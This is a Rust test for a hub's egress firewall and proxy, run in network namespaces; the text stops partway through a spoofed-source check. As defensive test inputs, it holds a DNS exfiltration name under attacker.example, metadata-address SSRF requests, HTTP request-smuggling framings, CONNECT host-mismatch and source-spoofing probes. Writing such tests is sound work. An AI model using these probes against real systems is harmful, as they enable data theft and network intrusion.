//! End-to-end egress enforcement in network namespaces this test creates itself (root only; skipped
//! otherwise, required under CI). Topology:
//!
//! ```text
//!  dbx  (devbox, policy "dev")     10.77.0.2 --- 10.77.0.1  hub  (mcp-hub run, nft ruleset from
//!  dbx2 (devbox, policy "locked")  10.77.1.2 --- 10.77.1.1        `mcp-hub firewall`, sample upstream)
//!                                                10.88.0.1 --- 10.88.0.2  wld (HTTP :80, HTTPS :443, UDP sink)
//! ```
//!
//! Devboxes resolve every test name to the hub (their /etc/netns hosts file), which must not matter:
//! the hub resolves names itself (its own hosts file maps allowed.test to the world). Clients are the
//! ordinary tools an agent uses: curl, openssl, python.
//!
//! The lab is built once; then every named check in [`CHECKS`] runs on it and a failure is reported by
//! name without stopping the rest. Run some alone with `MCP_HUB_NETNS_CHECK=name[,name...]`.

#![allow(clippy::unwrap_used)] // test code: a failed step is a failed test

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_mcp-hub");

fn is_root() -> bool {
    nix::unistd::Uid::effective().is_root()
}

fn run(args: &[&str]) -> Output {
    Command::new(args[0])
        .args(&args[1..])
        .output()
        .unwrap_or_else(|e| panic!("{args:?}: {e}"))
}

fn ok(args: &[&str]) -> String {
    let o = run(args);
    assert!(
        o.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Everything the test created; removed on drop, also when the test fails.
struct Lab {
    id: String,
    dir: tempfile::TempDir,
    children: Vec<Child>,
}

impl Lab {
    fn ns(&self, n: &str) -> String {
        format!("mh{n}{}", self.id)
    }

    fn exec(&self, n: &str, args: &[&str]) -> Output {
        let ns = self.ns(n);
        let mut full = vec!["ip", "netns", "exec", ns.as_str()];
        full.extend_from_slice(args);
        run(&full)
    }

    fn spawn(&mut self, n: &str, args: &[&str], env: &[(&str, &str)], log: &str) {
        let f = std::fs::File::create(self.dir.path().join(log)).unwrap();
        let c = Command::new("ip")
            .args(["netns", "exec", &self.ns(n)])
            .args(args)
            .envs(env.iter().copied())
            .stdout(Stdio::from(f.try_clone().unwrap()))
            .stderr(Stdio::from(f))
            .spawn()
            .unwrap();
        self.children.push(c);
    }

    fn hosts(&self, n: &str, text: &str) {
        let d = PathBuf::from(format!("/etc/netns/{}", self.ns(n)));
        std::fs::create_dir_all(&d).unwrap();
        std::fs::write(d.join("hosts"), text).unwrap();
    }

    fn log(&self, name: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(name)).unwrap_or_default()
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for c in &mut self.children {
            let _ = c.kill();
            let _ = c.wait();
        }
        for n in ["dbx", "dbx2", "hub", "wld"] {
            let ns = self.ns(n);
            let _ = Command::new("ip").args(["netns", "del", &ns]).output();
            let _ = std::fs::remove_dir_all(format!("/etc/netns/{ns}"));
        }
    }
}

fn wait_for(what: &str, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(20) {
        if f() {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("timed out waiting for {what}");
}

fn config(dir: &Path) -> PathBuf {
    let p = dir.join("hub.toml");
    std::fs::write(
        &p,
        r#"version = 1
[hub]
state_dir = "state"
[gateway]
listen = "127.0.0.1:8443"
url = "https://mcp.hub.internal/mcp"
[agent_gateway]
url = "https://agents.hub.internal"
[egress]
# Dual-stack: IPv4 devbox connections arrive as ::ffff:a.b.c.d, IPv6 ones as themselves.
transparent_listen = "[::]:15001"
explicit_listen = "10.77.0.1:3128"
dns_listen = "0.0.0.0:15353"
gateway_addresses = ["10.77.0.1"]
devbox_interfaces = ["vd0", "vd1"]
# The test's "outside world" is a private network; the operator allows it explicitly.
allowed_private_ranges = ["10.88.0.0/24", "fd88::/64"]

[[network_policies]]
name = "dev"
# hubself.test and hubnew.test name the hub host itself (never a destination, on any port).
allowed_hostnames = ["allowed.test", "allowed6.test", "private.test", "rebind.test", "hubself.test", "hubnew.test"]
allow_mcp_gateway = true
allow_agent_gateway = true

[[network_policies]]
name = "locked"
description = "no network at all, not even the gateway"
"#,
    )
    .unwrap();
    p
}

/// The lab, running: namespaces wired, the world's origins and the hub up.
struct World {
    lab: Lab,
    /// The test's directory (config, state, logs).
    d: PathBuf,
    /// dbx's GITHUB_MCP_SECRET token.
    token: String,
    /// The hub CA's certificate.
    ca: String,
    /// dbx's `ANTHROPIC_URL` and `ANTHROPIC`.
    agent_env: Vec<(String, String)>,
}

/// The sample model's real key, which must never be seen inside a devbox.
const MODEL_KEY: &str = "sk-netns-model-REAL-key";

/// Build the lab (`None` without root: skipped locally, required under CI). `tag` keeps the
/// namespaces of tests running side by side apart.
fn world(tag: &str) -> Option<World> {
    if !is_root() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must run the netns suite as root"
        );
        eprintln!("skipping: network namespaces need root");
        return None;
    }
    let id = format!("{tag}{:04x}", std::process::id() % 0xffff);
    let mut lab = Lab {
        id,
        dir: tempfile::tempdir().unwrap(),
        children: Vec::new(),
    };
    for n in ["dbx", "dbx2", "hub", "wld"] {
        ok(&["ip", "netns", "add", &lab.ns(n)]);
        lab.exec(n, &["ip", "link", "set", "lo", "up"]);
    }
    let (hub, dbx, dbx2, wld) = (lab.ns("hub"), lab.ns("dbx"), lab.ns("dbx2"), lab.ns("wld"));
    ok(&[
        "ip", "-n", &hub, "link", "add", "vd0", "type", "veth", "peer", "name", "eth0", "netns",
        &dbx,
    ]);
    ok(&[
        "ip", "-n", &hub, "link", "add", "vd1", "type", "veth", "peer", "name", "eth0", "netns",
        &dbx2,
    ]);
    ok(&[
        "ip", "-n", &hub, "link", "add", "vw", "type", "veth", "peer", "name", "eth0", "netns",
        &wld,
    ]);
    for (ns, dev, addr) in [
        (&hub, "vd0", "10.77.0.1/24"),
        (&hub, "vd1", "10.77.1.1/24"),
        (&hub, "vw", "10.88.0.1/24"),
        (&dbx, "eth0", "10.77.0.2/24"),
        (&dbx2, "eth0", "10.77.1.2/24"),
        (&wld, "eth0", "10.88.0.2/24"),
    ] {
        ok(&["ip", "-n", ns, "addr", "add", addr, "dev", dev]);
        ok(&["ip", "-n", ns, "link", "set", dev, "up"]);
    }
    ok(&[
        "ip",
        "-n",
        &dbx,
        "route",
        "add",
        "default",
        "via",
        "10.77.0.1",
    ]);
    ok(&[
        "ip",
        "-n",
        &dbx2,
        "route",
        "add",
        "default",
        "via",
        "10.77.1.1",
    ]);
    ok(&[
        "ip",
        "-n",
        &wld,
        "route",
        "add",
        "default",
        "via",
        "10.88.0.1",
    ]);
    // Devboxes point every name at the hub; the hub knows where things really are.
    let names =
        "mcp.hub.internal agents.hub.internal allowed.test denied.test private.test rebind.test";
    for (ns, dev, addr) in [
        (&hub, "vd0", "fd77::1/64"),
        (&hub, "vw", "fd88::1/64"),
        (&dbx, "eth0", "fd77::2/64"),
        (&wld, "eth0", "fd88::2/64"),
    ] {
        ok(&[
            "ip", "-n", ns, "-6", "addr", "add", addr, "dev", dev, "nodad",
        ]);
    }
    ok(&[
        "ip", "-n", &dbx, "-6", "route", "add", "default", "via", "fd77::1",
    ]);
    ok(&[
        "ip", "-n", &wld, "-6", "route", "add", "default", "via", "fd88::1",
    ]);
    lab.hosts(
        "dbx",
        &format!("127.0.0.1 localhost\n10.77.0.1 {names}\nfd77::1 allowed6.test\n"),
    );
    lab.hosts("dbx2", &format!("127.0.0.1 localhost\n10.77.1.1 {names}\n"));
    lab.hosts("hub", "127.0.0.1 localhost\n10.88.0.2 allowed.test denied.test\n192.168.200.7 private.test\n10.88.0.2 rebind.test\n169.254.169.254 rebind.test\nfd88::2 allowed6.test\n10.88.0.1 hubself.test\n10.88.0.9 hubnew.test\n");

    // The world: an HTTP and an HTTPS origin, and a UDP sink.
    let d = lab.dir.path().to_path_buf();
    std::fs::write(d.join("index.html"), "hello from the world\n").unwrap();
    ok(&[
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-subj",
        "/CN=allowed.test",
        "-addext",
        "subjectAltName=DNS:allowed.test",
        "-days",
        "1",
        "-keyout",
        d.join("w.key").to_str().unwrap(),
        "-out",
        d.join("w.pem").to_str().unwrap(),
    ]);
    lab.spawn(
        "wld",
        &[
            "python3",
            "-m",
            "http.server",
            "80",
            "--bind",
            "10.88.0.2",
            "--directory",
            d.to_str().unwrap(),
        ],
        &[],
        "http.log",
    );
    lab.spawn(
        "wld",
        &[
            "python3",
            "-m",
            "http.server",
            "80",
            "--bind",
            "fd88::2",
            "--directory",
            d.to_str().unwrap(),
        ],
        &[],
        "http6.log",
    );
    lab.spawn(
        "wld",
        &[
            "openssl",
            "s_server",
            "-accept",
            "443",
            "-cert",
            d.join("w.pem").to_str().unwrap(),
            "-key",
            d.join("w.key").to_str().unwrap(),
            "-www",
            "-quiet",
        ],
        &[],
        "https.log",
    );
    let udp_sink = "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.bind(('10.88.0.2',5353));s.settimeout(8)\ntry:\n  s.recv(100);print('RECEIVED',flush=True)\nexcept Exception:\n  print('NOTHING',flush=True)";
    lab.spawn("wld", &["python3", "-c", udp_sink], &[], "udp.log");
    // A service on the hub host that is not the hub (think sshd or a database), on every address.
    lab.spawn(
        "hub",
        &[
            "python3",
            "-m",
            "http.server",
            "2222",
            "--bind",
            "0.0.0.0",
            "--directory",
            d.to_str().unwrap(),
        ],
        &[],
        "hostsvc.log",
    );

    // The hub: config, devboxes, sample upstream, firewall, service.
    let cfg = config(&d);
    let c = cfg.to_str().unwrap();
    ok(&[
        BIN,
        "--config",
        c,
        "mcp-config",
        "create",
        "--name",
        "github",
        "--endpoint",
        "http://127.0.0.1:3900/mcp",
        "--allowed-tools",
        "github.get_*,github.search_*",
    ]);
    let mut sc = Command::new(BIN)
        .args(["--config", c, "secret", "create", "GH"])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(sc.stdin.as_mut().unwrap(), b"netns-upstream-secret").unwrap();
    assert!(sc.wait().unwrap().success());
    ok(&[
        BIN,
        "--config",
        c,
        "gateway-config",
        "create",
        "--name",
        "model",
        "--endpoint",
        "http://127.0.0.1:3901",
        "--auth-type",
        "header",
        "--auth-key",
        "x-api-key",
    ]);
    let mut sc = Command::new(BIN)
        .args(["--config", c, "secret", "create", "MODEL_KEY"])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(sc.stdin.as_mut().unwrap(), MODEL_KEY.as_bytes()).unwrap();
    assert!(sc.wait().unwrap().success());
    let env = ok(&[
        BIN,
        "--config",
        c,
        "devbox",
        "create",
        "dbx",
        "--address",
        "10.77.0.2",
        "--address",
        "fd77::2",
        "--network-policy",
        "dev",
        "--mcp",
        "GITHUB_MCP_SECRET=github:GH",
        "--gateway",
        "ANTHROPIC=model:MODEL_KEY",
    ]);
    let token = env
        .lines()
        .find_map(|l| l.strip_prefix("GITHUB_MCP_SECRET="))
        .unwrap()
        .to_string();
    // SECURITY: the devbox's whole environment holds no real credential.
    assert!(
        !env.contains(MODEL_KEY) && !env.contains("netns-upstream-secret"),
        "{env}"
    );
    let agent_env: Vec<(String, String)> = env
        .lines()
        .filter_map(|l| l.split_once('='))
        .filter(|(k, _)| k.starts_with("ANTHROPIC"))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    ok(&[
        BIN,
        "--config",
        c,
        "devbox",
        "create",
        "dbx2",
        "--address",
        "10.77.1.2",
        "--network-policy",
        "locked",
        "--gateway",
        "ANTHROPIC=model:MODEL_KEY",
    ]);
    let rules = ok(&[BIN, "--config", c, "firewall"]);
    std::fs::write(d.join("rules.nft"), &rules).unwrap();
    let o = lab.exec("hub", &["nft", "-f", d.join("rules.nft").to_str().unwrap()]);
    assert!(
        o.status.success(),
        "nft rejected the ruleset: {}\n{rules}",
        String::from_utf8_lossy(&o.stderr)
    );
    lab.spawn(
        "hub",
        &[BIN, "sample-upstream", "--listen", "127.0.0.1:3900"],
        &[("MCP_HUB_SAMPLE_SECRET", "netns-upstream-secret")],
        "upstream.log",
    );
    lab.spawn(
        "hub",
        &[BIN, "sample-model", "--listen", "127.0.0.1:3901"],
        &[("MCP_HUB_SAMPLE_KEY", MODEL_KEY)],
        "model.log",
    );
    lab.spawn(
        "hub",
        &[BIN, "--config", c, "run"],
        &[("MCP_HUB_LOG", "info")],
        "hub.log",
    );
    wait_for("the hub", || {
        lab.log("hub.log").matches("Egress proxy ready").count() == 2
    });
    for (host, port) in [
        ("10.88.0.2", "80"),
        ("10.88.0.2", "443"),
        ("fd88::2", "80"),
        ("10.88.0.1", "2222"),
    ] {
        let probe = format!("exec 3<>/dev/tcp/{host}/{port}");
        wait_for("the world's origins", || {
            lab.exec("hub", &["bash", "-c", &probe]).status.success()
        });
    }
    let ca = d.join("state/ca/ca.pem").to_str().unwrap().to_string();
    Some(World {
        lab,
        d,
        token,
        ca,
        agent_env,
    })
}

/// A named check on the running lab. Checks run in this order; each can also run alone
/// (`MCP_HUB_NETNS_CHECK=name[,name...]`), so none depends on another having run.
type Check = (&'static str, fn(&mut World));

const CHECKS: &[Check] = &[
    (
        "allowed_hosts_are_reached_over_http_and_https",
        allowed_hosts_are_reached_over_http_and_https,
    ),
    (
        "denied_hosts_are_refused_at_once",
        denied_hosts_are_refused_at_once,
    ),
    ("ipv6_takes_the_same_pipeline", ipv6_takes_the_same_pipeline),
    (
        "raw_ips_private_names_and_rebinding_are_refused",
        raw_ips_private_names_and_rebinding_are_refused,
    ),
    (
        "the_mcp_gateway_is_intercepted_and_served",
        the_mcp_gateway_is_intercepted_and_served,
    ),
    (
        "the_agent_gateway_is_intercepted_with_allow_agent_gateway_only",
        the_agent_gateway_is_intercepted_with_allow_agent_gateway_only,
    ),
    (
        "the_explicit_proxy_decides_alike",
        the_explicit_proxy_decides_alike,
    ),
    (
        "a_second_devbox_has_its_own_policy",
        a_second_devbox_has_its_own_policy,
    ),
    (
        "dns_answers_only_allowed_names",
        dns_answers_only_allowed_names,
    ),
    ("udp_does_not_leave", udp_does_not_leave),
    (
        "the_audit_names_devbox_policy_and_reason",
        the_audit_names_devbox_policy_and_reason,
    ),
    (
        "ambiguous_requests_are_refused",
        ambiguous_requests_are_refused,
    ),
    (
        "connect_tunnels_carry_only_their_host",
        connect_tunnels_carry_only_their_host,
    ),
    (
        "spoofed_sources_are_dropped_by_the_ruleset",
        spoofed_sources_are_dropped_by_the_ruleset,
    ),
    (
        "names_of_the_hub_host_reach_none_of_its_services",
        names_of_the_hub_host_reach_none_of_its_services,
    ),
    (
        "addresses_added_to_the_host_count_at_once",
        addresses_added_to_the_host_count_at_once,
    ),
    (
        "odd_openings_get_the_promised_answers",
        odd_openings_get_the_promised_answers,
    ),
    (
        "slow_loris_does_not_delay_real_requests",
        slow_loris_does_not_delay_real_requests,
    ),
];

/// Build the lab once and run every check on it; a failing check is reported by name and the others
/// still run, so the first failure hides nothing.
#[test]
fn egress_in_network_namespaces() {
    let Some(mut w) = world("n") else {
        return;
    };
    let only = std::env::var("MCP_HUB_NETNS_CHECK").ok();
    let mut failed = Vec::new();
    for (name, check) in CHECKS {
        if only
            .as_deref()
            .is_some_and(|o| !o.split(',').any(|x| x == *name))
        {
            continue;
        }
        eprintln!("netns check: {name}");
        let started = Instant::now();
        if std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| check(&mut w))).is_err() {
            failed.push(*name);
        }
        eprintln!("netns check: {name} done in {:?}", started.elapsed());
    }
    assert!(failed.is_empty(), "failed netns checks: {failed:?}");
}

/// `curl -sS --max-time 8 ARGS` in namespace `ns`.
fn curl(lab: &Lab, ns: &str, args: &[&str]) -> Output {
    let mut a = vec!["curl", "-sS", "--max-time", "8"];
    a.extend_from_slice(args);
    lab.exec(ns, &a)
}

/// Everything a command printed.
fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The response (head and body) to `GET url` from dbx.
fn get(lab: &Lab, url: &str) -> String {
    text(&curl(lab, "dbx", &["-i", url]))
}

/// A `tools/list` from namespace `ns` to the gateway host, with dbx's token.
fn mcp(w: &World, ns: &str) -> Output {
    curl(
        &w.lab,
        ns,
        &[
            "--cacert",
            &w.ca,
            "-H",
            &format!("Authorization: Bearer {}", w.token),
            "-H",
            "Content-Type: application/json",
            "-H",
            "Accept: application/json, text/event-stream",
            "-d",
            r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#,
            "https://mcp.hub.internal/mcp",
        ],
    )
}

/// An A query for `name` from namespace `ns` to the hub's resolver address.
fn dig(lab: &Lab, ns: &str, name: &str) -> String {
    let o = lab.exec(ns, &["dig", "+tries=1", "+time=3", "@10.77.0.1", name, "A"]);
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Send `bytes` from namespace `n` to `addr:port` over TCP and return everything that comes back.
fn raw_tcp(lab: &Lab, n: &str, addr: &str, port: u16, bytes: &str) -> String {
    let script = "import socket,sys\ns=socket.create_connection((sys.argv[1],int(sys.argv[2])),timeout=8)\ns.sendall(sys.argv[3].encode())\nout=b''\ntry:\n  while True:\n    b=s.recv(65536)\n    if not b: break\n    out+=b\nexcept Exception as e:\n  out+=('<%s>'%e).encode()\nsys.stdout.write(out.decode('latin-1'))";
    let o = lab.exec(
        n,
        &["python3", "-c", script, addr, &port.to_string(), bytes],
    );
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn allowed_hosts_are_reached_over_http_and_https(w: &mut World) {
    let lab = &w.lab;
    // Allowed host over HTTP and HTTPS, although the devbox dialled the hub's address.
    let o = curl(lab, "dbx", &["http://allowed.test/"]);
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "hello from the world\n",
        "{}",
        text(&o)
    );
    let o = curl(
        lab,
        "dbx",
        &[
            "--cacert",
            w.d.join("w.pem").to_str().unwrap(),
            "https://allowed.test/",
        ],
    );
    assert!(
        o.status.success() && text(&o).contains("s_server"),
        "{}",
        text(&o)
    );
}

fn denied_hosts_are_refused_at_once(w: &mut World) {
    let lab = &w.lab;
    // Denied host: immediate 403 with the reason over HTTP; a TLS alert (no certificate) over HTTPS.
    let start = Instant::now();
    let o = curl(lab, "dbx", &["-i", "http://denied.test/"]);
    assert!(
        text(&o).contains("403 Forbidden")
            && text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
        "{}",
        text(&o)
    );
    assert!(
        text(&o).contains("blocked by network policy"),
        "{}",
        text(&o)
    );
    let o = curl(lab, "dbx", &["-k", "https://denied.test/"]);
    assert!(
        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
        "{}",
        text(&o)
    );
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "denials must be immediate"
    );
}

fn ipv6_takes_the_same_pipeline(w: &mut World) {
    let lab = &w.lab;
    // IPv6: the same pipeline (IP6T_SO_ORIGINAL_DST, hub-side resolution to an IPv6 world).
    let o = curl(lab, "dbx", &["-6", "http://allowed6.test/"]);
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "hello from the world\n",
        "IPv6: {}",
        text(&o)
    );
    let o = curl(
        lab,
        "dbx",
        &[
            "-6",
            "-i",
            "-g",
            "-H",
            "Host: denied.test",
            "http://[fd77::1]/",
        ],
    );
    assert!(
        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
        "IPv6 denial: {}",
        text(&o)
    );
    let o = curl(lab, "dbx", &["-6", "-i", "-g", "http://[fd88::2]/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: raw_ip"),
        "IPv6 raw address: {}",
        text(&o)
    );
}

fn raw_ips_private_names_and_rebinding_are_refused(w: &mut World) {
    let lab = &w.lab;
    // Raw IPs, the metadata address, names resolving to private addresses, DNS rebinding.
    let o = curl(lab, "dbx", &["-i", "http://10.88.0.2/"]);
    assert!(text(&o).contains("X-Proxy-Error: raw_ip"), "{}", text(&o));
    let o = curl(lab, "dbx", &["-k", "https://169.254.169.254/"]);
    assert!(
        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
        "{}",
        text(&o)
    );
    let o = curl(lab, "dbx", &["-i", "http://private.test/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: private_address"),
        "{}",
        text(&o)
    );
    let o = curl(lab, "dbx", &["-i", "http://rebind.test/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: private_address"),
        "one private answer refuses the name: {}",
        text(&o)
    );
    // Host and absolute target disagreeing inside one request.
    let o = curl(
        lab,
        "dbx",
        &["-i", "-H", "Host: allowed.test", "http://denied.test/"],
    );
    assert!(
        text(&o).contains("hello from the world"),
        "Host decides, and it is the host dialled: {}",
        text(&o)
    );
}

fn the_mcp_gateway_is_intercepted_and_served(w: &mut World) {
    let (lab, ca) = (&w.lab, w.ca.as_str());
    // The MCP gateway, intercepted and served by the hub, exactly as directly.
    let o = mcp(w, "dbx");
    assert!(
        o.status.success()
            && text(&o).contains("github.get_issue")
            && !text(&o).contains("delete_repo"),
        "{}",
        text(&o)
    );
    if let Some(py) =
        std::env::var_os("MCP_HUB_INTEROP_DIR").map(|d| PathBuf::from(d).join("venv/bin/python"))
    {
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/interop/netns_client.py");
        let o = Command::new("ip")
            .args([
                "netns",
                "exec",
                &lab.ns("dbx"),
                py.to_str().unwrap(),
                script,
                "https://mcp.hub.internal/mcp",
                &w.token,
            ])
            .env("SSL_CERT_FILE", ca)
            .output()
            .unwrap();
        assert!(
            o.status.success() && text(&o).contains("github.get_issue"),
            "python client in the devbox: {}",
            text(&o)
        );
    }
}

fn the_agent_gateway_is_intercepted_with_allow_agent_gateway_only(w: &mut World) {
    let (lab, ca) = (&w.lab, w.ca.as_str());
    let var = |k: &str| {
        w.agent_env
            .iter()
            .find(|(n, _)| n == k)
            .map(|(_, v)| v.clone())
            .unwrap()
    };
    let (url, token) = (var("ANTHROPIC_URL"), var("ANTHROPIC"));
    assert_eq!(url, "https://agents.hub.internal");
    let call = |ns: &str, via_proxy: bool| {
        let mut args = vec![
            "-i".to_string(),
            "--cacert".into(),
            ca.to_string(),
            format!("{url}/v1/messages"),
            "-H".into(),
            format!("x-api-key: {token}"),
            "-H".into(),
            "anthropic-version: 2023-06-01".into(),
            "-H".into(),
            "content-type: application/json".into(),
            "-d".into(),
            r#"{"model":"claude-x","max_tokens":8,"messages":[{"role":"user","content":"hi"}]}"#
                .into(),
        ];
        if via_proxy {
            args.splice(0..0, ["-x".to_string(), "http://10.77.0.1:3128".into()]);
        }
        let a: Vec<&str> = args.iter().map(String::as_str).collect();
        curl(lab, ns, &a)
    };
    // dbx (allow_agent_gateway): the agent gateway's host is intercepted and served by the hub, which
    // injects the model's real key; transparently and through HTTPS_PROXY alike.
    for via_proxy in [false, true] {
        let o = call("dbx", via_proxy);
        assert!(
            text(&o).contains("200") && text(&o).contains("through the agent gateway"),
            "proxy {via_proxy}: {}",
            text(&o)
        );
    }
    let out = dig(lab, "dbx", "agents.hub.internal");
    assert!(
        out.contains("status: NOERROR") && out.contains("\t10.77.0.1"),
        "{out}"
    );
    // dbx2 (no allow_agent_gateway): refused at the connection, the name not even answered.
    let o = call("dbx2", false);
    assert!(!o.status.success(), "{}", text(&o));
    let out = dig(lab, "dbx2", "agents.hub.internal");
    assert!(out.contains("status: REFUSED"), "{out}");
    let log = lab.log("hub.log");
    assert!(
        log.lines()
            .any(|l| l.contains("10.77.1.2") && l.contains("agent_gateway_not_allowed")),
        "{log}"
    );
    // SECURITY: the provider itself is not reachable with allow_agent_gateway: it is no allowed host.
    let o = curl(lab, "dbx", &["-k", "https://api.anthropic.com/v1/messages"]);
    assert!(!o.status.success(), "{}", text(&o));
    // The model's key was used on the host and never seen in the devbox's answers.
    assert!(!text(&call("dbx", false)).contains(MODEL_KEY));
}

fn the_explicit_proxy_decides_alike(w: &mut World) {
    let lab = &w.lab;
    // Explicit proxy (HTTPS_PROXY) from inside the devbox reaches the same decisions.
    let o = curl(
        lab,
        "dbx",
        &["-x", "http://10.77.0.1:3128", "http://allowed.test/"],
    );
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "hello from the world\n",
        "{}",
        text(&o)
    );
    let o = curl(
        lab,
        "dbx",
        &["-x", "http://10.77.0.1:3128", "-k", "https://denied.test/"],
    );
    assert!(
        !o.status.success() && text(&o).contains("403"),
        "{}",
        text(&o)
    );
}

fn a_second_devbox_has_its_own_policy(w: &mut World) {
    let lab = &w.lab;
    // The second devbox gets its own policy: nothing, not even the gateway.
    let o = curl(lab, "dbx2", &["-i", "http://allowed.test/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
        "{}",
        text(&o)
    );
    let o = mcp(w, "dbx2");
    assert!(
        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
        "{}",
        text(&o)
    );
}

fn dns_answers_only_allowed_names(w: &mut World) {
    let lab = &w.lab;
    // DNS (port 53 is redirected to the hub's responder): allowed names and the gateway are answered,
    // everything else is refused and never forwarded.
    let out = dig(lab, "dbx", "allowed.test");
    assert!(
        out.contains("status: NOERROR") && out.contains("10.88.0.2"),
        "{out}"
    );
    let out = dig(lab, "dbx", "mcp.hub.internal");
    assert!(
        out.contains("status: NOERROR") && out.contains("10.77.0.1"),
        "{out}"
    );
    for name in [
        "denied.test",
        "c2VjcmV0.exfil.attacker.example",
        "private.test",
    ] {
        let out = dig(lab, "dbx", name);
        assert!(out.contains("status: REFUSED"), "{name}: {out}");
    }
    let out = dig(lab, "dbx2", "mcp.hub.internal");
    assert!(
        out.contains("status: REFUSED"),
        "locked policy, gateway name: {out}"
    );
    // Any other resolver is unreachable: the query to it is redirected to the hub too.
    let o = lab.exec(
        "dbx",
        &["dig", "+tries=1", "+time=3", "@8.8.8.8", "denied.test", "A"],
    );
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("status: REFUSED"),
        "{}",
        text(&o)
    );
}

fn udp_does_not_leave(w: &mut World) {
    let lab = &w.lab;
    // UDP (QUIC included) does not leave: the world's sink receives nothing.
    let send = "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor _ in range(5): s.sendto(b'x',('10.88.0.2',5353))";
    lab.exec("dbx", &["python3", "-c", send]);
    wait_for("the UDP sink", || !lab.log("udp.log").is_empty());
    assert_eq!(lab.log("udp.log").trim(), "NOTHING");
}

fn the_audit_names_devbox_policy_and_reason(w: &mut World) {
    // Audit: one line per connection with devbox, policy, verdict and reason. Its own traffic first, so
    // that the check stands alone: a denial and the gateway from dbx, the gateway from dbx2.
    curl(&w.lab, "dbx", &["http://denied.test/"]);
    mcp(w, "dbx");
    mcp(w, "dbx2");
    let lab = &w.lab;
    wait_for("the audit lines", || {
        lab.log("hub.log")
            .contains("reason=\"mcp_gateway_not_allowed\"")
    });
    let log = lab.log("hub.log");
    assert!(log.contains("devbox=\"dbx\""), "no dbx line in {log}");
    assert!(
        log.contains("reason=\"not_in_allowed_hostnames\""),
        "no denial line in {log}"
    );
    assert!(log.contains("reason=\"mcp_gateway\""), "{log}");
    assert!(
        log.contains("devbox=\"dbx2\"") && log.contains("reason=\"mcp_gateway_not_allowed\""),
        "{log}"
    );
}

fn ambiguous_requests_are_refused(w: &mut World) {
    let lab = &w.lab;
    // SECURITY 1: a second Host (an origin that picks the last would serve the denied virtual host),
    // and the other framings an origin could read differently: 400, nothing forwarded. Transparent
    // (any address the devbox dials is redirected) and through the explicit proxy alike.
    for (addr, port, target) in [
        ("10.88.0.2", 80, "/"),
        ("10.77.0.1", 3128, "http://allowed.test/"),
    ] {
        for extra in [
            "Host: denied.test\r\n",
            "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
        ] {
            let req = format!("GET {target} HTTP/1.1\r\nHost: allowed.test\r\n{extra}\r\n");
            let got = raw_tcp(lab, "dbx", addr, port, &req);
            assert!(
                got.starts_with("HTTP/1.1 400") && got.contains("X-Proxy-Error: ambiguous_request"),
                "{addr}:{port} {extra:?}: {got}"
            );
            assert!(!got.contains("hello from the world"), "{got}");
        }
    }
}

fn connect_tunnels_carry_only_their_host(w: &mut World) {
    let lab = &w.lab;
    // SECURITY 2: plain HTTP inside a CONNECT tunnel names another host, in the CONNECT's own
    // segment or after the 200: 421, never tunnelled. The host it was opened for still works.
    let tunnel = "CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n";
    let got = raw_tcp(
        lab,
        "dbx",
        "10.77.0.1",
        3128,
        &format!("{tunnel}GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n"),
    );
    assert!(
        got.contains("HTTP/1.1 421") && got.contains("X-Proxy-Error: host_mismatch"),
        "{got}"
    );
    assert!(!got.contains("hello from the world"), "{got}");
    let got = raw_tcp(
        lab,
        "dbx",
        "10.77.0.1",
        3128,
        &format!("{tunnel}GET /index.html HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    );
    assert!(got.contains("hello from the world"), "{got}");
}

fn spoofed_sources_are_dropped_by_the_ruleset(w: &mut World) {
    let lab = &w.lab;
    // SECURITY 3: a devbox that sends with another devbox's source address is dropped by the ruleset
    // before the hub sees it (here dbx2, "locked", poses as dbx, "dev", towards the DNS responder).
    ok(&[
        "ip",
        "-n",
        &lab.ns("dbx2"),
        "addr",
        "add",
        "10.77.0.2/32",
        "dev",
        "eth0",
    ]);
    let dig = |name: &str, src: &str| {
        lab.exec(
            "dbx2",
            &[
                "dig",
                "+tries=1",
                "+time=2",
